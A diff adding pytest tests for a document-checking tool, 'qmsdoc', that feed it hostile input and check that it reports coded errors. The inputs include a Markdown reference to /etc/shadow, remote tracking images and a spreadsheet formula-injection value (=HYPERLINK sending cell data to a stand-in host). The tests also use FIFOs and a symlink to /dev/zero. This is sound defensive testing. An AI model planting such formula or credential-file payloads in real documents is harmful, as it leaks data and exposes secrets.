@@ -1,0 +1,120 @@
+"""Careless and hostile input found by `qmsdoc check`: each case is a coded finding at file:line with a
+Chinese message, never a traceback or a hang."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from qmsdoc.core import check, load_config
+
+from conftest import Project
+
+DOC = "manuals/qp-hr/QP-02-03.md"
+FORM = "controlled_forms/QP-02-03-F001.yaml"
+MANUAL = "manuals/qp-hr/index.md"
+
+Case = Callable[[Project], tuple[str, str, int]]
+
+
+def findings(project: Project) -> list[str]:
+    return [f.format() for f in check(load_config(project.root)).findings]
+
+
+def assert_finding(project: Project, code: str, path: str, line: int, *words: str) -> str:
+    found = findings(project)
+    prefix = f"{path}:{line}: error {code} "
+    hits = [f for f in found if f.startswith(prefix)]
+    assert hits, f"want {prefix!r} in {found}"
+    assert any("\u4e00" <= ch <= "\u9fff" for ch in hits[0][len(prefix):])
+    for word in words:
+        assert word in hits[0], hits[0]
+    return hits[0]
+
+
+def body(project: Project, text: str) -> int:
+    project.replace(DOC, "4.4.3 归还办公用品。", f"4.4.3 归还办公用品。\n\n{text}\n")
+    return project.line_of(DOC, text.split("\n")[-1])
+
+
+def test_reference_style_definition_outside_the_repo_is_qd201(project: Project) -> None:
+    line = body(project, "见[影子文件][s]。\n\n[s]: /etc/shadow")
+    assert_finding(project, "QD201", DOC, line, "/etc/shadow")
+
+
+def test_reference_definition_in_manual_is_quiet(project: Project) -> None:
+    body(project, "见[说明][s]。\n\n[s]: https://www.iso.org/")
+    assert not [f for f in findings(project) if "QD201" in f]
+
+
+@pytest.mark.parametrize("text", ["![流程图](http://tracker.example/p.png)", "![流程图](//cdn.example/p.png)",
+                                  "![流程图][img]\n\n[img]: https://cdn.example/p.png"])
+def test_remote_images_are_qd202(project: Project, text: str) -> None:
+    line = body(project, text.split("\n")[0])
+    if "\n" in text:
+        project.replace(DOC, text.split("\n")[0], text)
+    assert_finding(project, "QD202", DOC, line)
+
+
+def test_local_images_and_remote_links_are_quiet(project: Project) -> None:
+    body(project, "![流程图](assets/流程.png) [标准](https://www.iso.org/)")
+    assert not [f for f in findings(project) if "QD202" in f]
+
+
+def test_register_cells_are_never_formulas(project: Project, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    import datetime as dt
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from qmsdoc.records.register import write_registers
+
+    formula = '=HYPERLINK("http://x"&A1,"点击查看")'
+    project.replace(DOC, "title: 员工离职管理工作规程", f"title: '{formula}'")
+    project.replace(DOC, "department: 管家服务中心", "department: '@SUM(1+1)'")
+    result = check(load_config(project.root))
+    out = tmp_path / "records"
+    out.mkdir()
+    write_registers(result.corpus, project.root, out, dt.date(2026, 3, 1))
+    sheet = load_workbook(out / "register.xlsx")["受控文件清单"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "QP-02-03")
+    assert row[1].value == formula and row[1].data_type == "s"
+    assert row[5].value == "@SUM(1+1)" and row[5].data_type == "s"
+    with zipfile.ZipFile(out / "register.xlsx") as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
+    csv_text = (out / "register.csv").read_text("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ",'@SUM(1+1)," in csv_text
+
+
+# -- nothing can make a check wait ----------------------------------------------------------------------
+
+def test_fifo_document_and_form_are_qd001_not_a_hang(project: Project) -> None:
+    import os
+
+    os.mkfifo(project.path("manuals/qp-hr/QP-02-09.md"))
+    os.mkfifo(project.path("controlled_forms/QP-02-03-F009.yaml"))
+    assert_finding(project, "QD001", "manuals/qp-hr/QP-02-09.md", 1, "普通文件")
+    assert_finding(project, "QD001", "controlled_forms/QP-02-03-F009.yaml", 1, "普通文件")
+
+
+def test_symlink_to_a_device_inside_is_refused(project: Project) -> None:
+    # /dev/zero leaves the project (QD008); a device reached otherwise is not a regular file (QD001).
+    project.path("manuals/qp-hr/QP-02-08.md").symlink_to("/dev/zero")
+    assert_finding(project, "QD008", "manuals/qp-hr/QP-02-08.md", 1)
+    from qmsdoc.core.source import read_text
+
+    src = read_text(__import__("pathlib").Path("/dev/zero"), "zero.md", 1024)
+    assert [f.code for f in src.findings] == ["QD001"]
+
+
+def test_register_hashes_the_bytes_the_build_loaded(project: Project) -> None:
+    import hashlib
+
+    from qmsdoc.records.register import register_rows
+
+    original = project.path(DOC).read_bytes()
+    result = check(load_config(project.root))
+    project.replace(DOC, "4.4.3 归还办公用品。", "4.4.3 构建期间被修改。")  # edited while the build runs
+    row = next(r for r in register_rows(result.corpus, project.root, project.root / "none") if r[0] == "QP-02-03")
+    assert row[11] == hashlib.sha256(original).hexdigest()
